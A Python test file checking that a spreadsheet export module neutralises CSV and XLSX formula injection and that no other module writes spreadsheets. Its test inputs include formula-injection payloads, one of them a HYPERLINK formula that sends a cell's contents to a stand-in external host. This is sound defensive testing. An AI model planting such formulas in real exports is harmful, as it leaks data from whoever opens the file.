"""The one spreadsheet writer (`infra.spreadsheets`): text that would start a formula is neutralised
in CSV and a string cell in XLSX; typed numbers stay numbers; and no other module writes a CSV or
an XLSX (a new writer elsewhere fails here)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import pathlib
import re
import zipfile
from decimal import Decimal

from openpyxl import load_workbook

from infra.spreadsheets import FORMULA_LEADS
from infra.spreadsheets import Sheet
from infra.spreadsheets import csv_document
from infra.spreadsheets import csv_value
from infra.spreadsheets import xlsx_document

HOSTILE = ('=HYPERLINK("http://x/?p="&C4,"Anna")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")
ROOT = pathlib.Path(__file__).resolve().parents[2]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_text_starting_a_formula_gets_an_apostrophe_and_numbers_stay_numbers():
    rows = [(value, Decimal("-12.50"), -3, -1.25, dt.date(2026, 9, 1), None) for value in HOSTILE]
    rows.append(("Kowalska", Decimal("0.10"), 0, 0.0, None, "zwykły"))
    data = csv_document(("Nazwisko", "Kwota", "Liczba", "Średnia", "Data", "Uwagi"), rows)
    parsed = read_csv(data)
    assert [row[0] for row in parsed[1:]] == ["'" + value for value in HOSTILE] + ["Kowalska"]
    assert parsed[1][1:] == ["-12,50", "-3", "-1,2", "01.09.2026", ""]  # typed values are not text: untouched
    for row in parsed:
        for field in row:
            assert field[:1] not in FORMULA_LEADS or re.fullmatch(r"-[0-9]+(,[0-9]+)?", field), field
    # what the csv module writes from the neutralised cells, byte for byte (the writer's fast path)
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(["Nazwisko", "Kwota", "Liczba", "Średnia", "Data", "Uwagi"])
    writer.writerows([[csv_value(v) for v in row] for row in rows])
    assert data == ("\ufeff" + out.getvalue()).encode()


def test_csv_header_and_text_of_other_types_are_neutralised_too():
    class Label(str):
        pass

    parsed = read_csv(csv_document(("=A1", "b"), [(Label("@x"), True), ("-", "")]))
    assert parsed == [["'=A1", "b"], ["'@x", "True"], ["'-", ""]]


def cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_xlsx_text_is_always_a_string_cell_never_a_formula():
    rows = [(value, Decimal("-12.50"), -3, dt.date(2026, 9, 1)) for value in HOSTILE]
    rows += [("#N/A", None, None, None), ("Zofia\x00\x07\x1f\ufffe", None, None, None)]
    data = xlsx_document([Sheet(title="Dane", rows=[("Nazwisko", "Kwota", "Liczba", "Data"), *rows],
                                bold_rows=frozenset({0})),
                          Sheet(title="Drugi", rows=[HOSTILE], column_formats={0: "@"})])
    found = cells(data)
    assert not [c.coordinate for c in found if c.data_type == "f"]
    texts = {c.value.replace("\r", "\n") for c in found if isinstance(c.value, str)}
    assert {v.replace("\r", "\n") for v in HOSTILE} <= texts
    assert all(c.data_type == "s" for c in found if isinstance(c.value, str))
    assert "#N/A" in texts and "Zofia" in texts  # an error code stays text; XML's forbidden characters dropped
    for cell in found:
        if isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@", "\t", "\n"):
            assert cell.quotePrefix, cell.coordinate  # Excel keeps it text even when the cell is edited
    numbers = [c.value for c in found if c.data_type == "n"]
    assert -12.5 in numbers and -3 in numbers
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        xml = b"".join(package.read(n) for n in package.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml


def test_nothing_else_writes_a_csv_or_an_xlsx():
    """One way to write a spreadsheet: a CSV or XLSX writer anywhere but infra/spreadsheets.py fails here."""
    writers = re.compile(r"\bWorkbook\(|csv\.writer\(|DictWriter\(|WriteOnlyCell\(|\.to_excel\(|\bxlsxwriter\b")
    found = []
    for package in ("infra", "tenants", "printing", "reports", "portal", "bench"):
        for path in sorted((ROOT / package).rglob("*.py")):
            if path.relative_to(ROOT).as_posix() == "infra/spreadsheets.py":
                continue
            found += [f"{path.relative_to(ROOT)}:{n}" for n, line in enumerate(path.read_text().splitlines(), 1)
                      if writers.search(line)]
    assert found == []
